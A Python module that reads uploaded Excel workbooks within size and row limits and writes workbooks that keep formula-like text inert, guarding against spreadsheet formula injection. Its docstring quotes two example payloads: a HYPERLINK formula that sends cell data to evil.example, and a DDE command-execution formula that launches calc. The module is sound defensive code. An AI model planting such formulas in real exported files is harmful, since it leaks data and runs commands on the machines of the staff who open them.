"""Workbooks people exchange: reading an uploaded .xlsx table and writing one with Chinese
headers that opens cleanly in Excel and WPS. No Django here.

Reading goes through `sheetreader`, which keeps a hostile upload within bounds of size, shape
and time. Writing goes through `write_workbook`, and every cell it writes through `_cell`, which
keeps text as text: a complaint's subject ``=HYPERLINK("http://evil.example/?x="&A2,"查看详情")``
or a registration answer ``=cmd|' /C calc'!A0`` must reach the staff who download the list as
the words the citizen typed, never as a formula Excel or WPS would run.
"""

from __future__ import annotations

import contextlib
import datetime
import io
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

from .sheetreader import MAX_COLUMNS, READ_SECONDS, XlsxError, sheet_rows

MAX_XLSX_BYTES = 10 * 1024 * 1024
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The rows a header may sit in, counted from the top.
HEADER_ROWS = 10
# Rows read beyond a table's data-row limit: the header and blank rows between the data.
SPARE_ROWS = 10_000


@dataclass
class Row:
    number: int  # the row number the user sees in Excel
    values: dict[str, str]


def read_table(
    data: bytes,
    *,
    required: Sequence[str],
    optional: Sequence[str] = (),
    max_rows: int = 20_000,
    seconds: float = READ_SECONDS,
) -> list[Row]:
    """The rows of the first sheet as ``{header: text}``, blank rows skipped.

    The header row is the first row that names every required column; columns are found by
    name, so users may reorder them or add their own. Raises ``XlsxError`` with a Chinese
    message for a file that is not .xlsx, is broken, too large or too slow to read, has other
    headers, no rows or more than ``max_rows``.
    """
    if len(data) > MAX_XLSX_BYTES:
        raise XlsxError(
            f"文件大小为 {len(data) / 1024 / 1024:.1f} MB，超过 "
            f"{MAX_XLSX_BYTES // 1024 // 1024} MB 上限。"
        )
    if not data.startswith(b"PK"):
        raise XlsxError(
            "文件不是 Excel 工作簿（.xlsx）。请用模板填写后上传；.xls 请先另存为 .xlsx。"
        )
    table: list[Row] = []
    rows = sheet_rows(data, max_rows=max_rows + SPARE_ROWS, seconds=seconds)
    with contextlib.closing(rows):
        columns = _find_header(rows, required, optional)
        for number, values in rows:
            texts = {name: _text(values, index) for name, index in columns.items()}
            if not any(texts.values()):
                continue
            if len(table) >= max_rows:
                raise XlsxError(f"表格超过 {max_rows} 行上限，请分成几个文件导入。")
            table.append(Row(number, texts))
    if not table:
        raise XlsxError("表格中没有数据行。")
    return table


def _find_header(
    rows: Iterator[tuple[int, tuple]], required: Sequence[str], optional: Sequence[str]
) -> dict[str, int]:
    """Column positions by header name, from the first row naming every required column;
    ``rows`` is left at the row below it."""
    for number, values in rows:
        if number > HEADER_ROWS:
            break
        cells = [
            str(value).strip().replace(" ", "") if value is not None else "" for value in values
        ]
        if all(name in cells for name in required):
            return {name: cells.index(name) for name in (*required, *optional) if name in cells}
    raise XlsxError(
        f"没有找到表头。前 {HEADER_ROWS} 行、前 {MAX_COLUMNS} 列中应有一行包含这些列："
        f"{'、'.join(required)}。请使用下载的模板。"
    )


def _text(values: tuple, index: int) -> str:
    if index >= len(values) or values[index] is None:
        return ""
    value = values[index]
    if isinstance(value, float) and value.is_integer():
        value = int(value)  # phone numbers and codes typed as numbers
    return str(value).strip()


@dataclass
class Sheet:
    """One table of a workbook: its sheet name, the header row and the rows.

    ``examples`` are rows shown grey and italic below the header (a template's filled-in
    example); ``text_columns`` name the columns Excel must keep as typed (codes, phone numbers)
    instead of turning them into numbers; ``validations`` are dropdowns and input checks.
    """

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence]
    widths: Sequence[int] | None = None
    examples: Sequence[Sequence] = ()
    text_columns: Sequence[str] = ()
    validations: Sequence[DataValidation] = ()


def write_table(
    headers: Sequence[str],
    rows: Iterable[Sequence],
    *,
    title: str,
    widths: Sequence[int] | None = None,
    notes: Sequence[str] = (),
) -> bytes:
    """A workbook with one table sheet (bold frozen header, sensible widths) and, if given,
    a 说明 sheet of notes."""
    return write_workbook([Sheet(title, headers, rows, widths)], notes=notes)


TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
_HEADER_STYLE = {
    "font": Font(bold=True),
    "fill": PatternFill("solid", fgColor="DDE6F3"),
    "alignment": Alignment(vertical="center"),
}
_EXAMPLE_STYLE = {"font": Font(italic=True, color="808080")}
_WRAP = Alignment(wrap_text=True, vertical="top")
# What Excel, WPS and LibreOffice take as the start of a formula when a cell is typed or a file
# is opened (OWASP "CSV injection"); a tab or carriage return ahead of one hides it.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def write_workbook(sheets: Sequence[Sheet], *, notes: Sequence[str] = ()) -> bytes:
    """A workbook with a table sheet each (bold frozen header, sensible widths) and, if given,
    a 说明 sheet of notes.

    Written row by row (openpyxl's write-only mode): a year's audit log is tens of thousands
    of rows, and memory stays flat where a normal workbook would not. Datetimes are shown to
    the second, multi-line text wrapped, and text that looks like a formula stays text.
    """
    workbook = Workbook(write_only=True)
    for table in sheets:
        sheet = workbook.create_sheet(table.title[:31])
        sheet.freeze_panes = "A2"
        for index, header in enumerate(table.headers, start=1):
            column = sheet.column_dimensions[get_column_letter(index)]
            column.width = table.widths[index - 1] if table.widths else max(10, len(header) * 2 + 4)
            if header in table.text_columns:
                column.number_format = "@"  # also for the rows a person adds
        for validation in table.validations:
            sheet.data_validations.append(validation)
        sheet.append([_cell(sheet, header, _HEADER_STYLE) for header in table.headers])
        for rows, style in ((table.examples, _EXAMPLE_STYLE), (table.rows, {})):
            styles = _column_styles(table, style)
            for row in rows:
                sheet.append(
                    [
                        _cell(sheet, value, styles[index] if index < len(styles) else style)
                        for index, value in enumerate(row)
                    ]
                )
    if notes:
        help_sheet = workbook.create_sheet("说明")
        help_sheet.column_dimensions["A"].width = 100
        for note in notes:
            help_sheet.append([_cell(help_sheet, note, {})])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _column_styles(table: Sheet, style: dict) -> list[dict]:
    """``style`` for each column, with the text format in the text columns."""
    return [
        {**style, "number_format": "@"} if header in table.text_columns else style
        for header in table.headers
    ]


def _cell(sheet, value, style: dict) -> WriteOnlyCell:
    """The one place a value becomes a cell."""
    if isinstance(value, str):
        # Control characters XML cannot hold (a vertical tab pasted into a complaint) would
        # make openpyxl refuse the whole workbook.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value="" if value is None else value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        # openpyxl stores any text starting with "=" as a formula. A string cell shows the text
        # as typed; the quote prefix (Excel's leading apostrophe, not part of the value) keeps
        # it text when someone edits the cell, where Excel and WPS would make it a formula.
        cell.data_type = "s"
        cell.quotePrefix = True
    elif isinstance(value, datetime.datetime):
        cell.number_format = TIME_FORMAT
    if isinstance(value, str) and "\n" in value:
        cell.alignment = _WRAP
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell
